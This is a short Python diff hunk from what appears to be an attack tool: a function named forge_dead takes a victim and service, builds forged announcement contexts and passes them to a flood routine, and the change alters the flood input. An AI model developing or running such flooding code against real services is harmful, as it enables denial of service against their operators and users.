@@ -16,7 +16,7 @@ def forge_dead(victim, service, count):
         context = Context()
         context.find(victim, int(service))
         contexts.append((context, context.announce(1, 50 * MIB, b'f' * 300)))
-    flood([context for context, _ in contexts], contexts, 1000)
+    flood([context for context, _ in contexts], contexts[:1] + contexts, 1000)
 
 
 def dead_announcements():
